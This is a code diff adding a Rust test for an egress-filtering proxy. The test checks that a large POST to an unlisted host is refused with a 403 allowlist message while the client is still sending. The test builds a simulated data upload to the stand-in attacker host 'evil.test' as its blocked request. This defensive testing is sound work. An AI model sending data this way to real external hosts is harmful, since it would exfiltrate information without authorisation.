@@ -1091,3 +1091,30 @@ fn config_errors_are_clear() {
     let e = cordon_egress::Egress::new(cfg).unwrap_err().to_string();
     assert!(e.contains("a.test"), "{e}");
 }
+
+#[test]
+fn refusal_is_readable_while_the_client_still_sends() {
+    let http = HttpServer::start();
+    let p = Proxy::start(base(&http));
+    let mut s = TcpStream::connect(p.addr).unwrap();
+    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+    let body = vec![b'b'; 600_000];
+    let mut w = s.try_clone().unwrap();
+    let writer = std::thread::spawn(move || {
+        let _ = w.write_all(
+            format!(
+                "POST http://evil.test/up HTTP/1.1\r\nContent-Length: {}\r\n\r\n",
+                body.len()
+            )
+            .as_bytes(),
+        );
+        let _ = w.write_all(&body);
+    });
+    let (status, _, text) = read_response(&mut s);
+    assert_eq!(status, 403);
+    assert!(String::from_utf8_lossy(&text).contains("not in the allowlist"));
+    writer.join().unwrap();
+    let (ev, _) = p.finish();
+    assert_eq!(ev.len(), 1);
+    assert_eq!(ev[0].rule, "unlisted");
+}
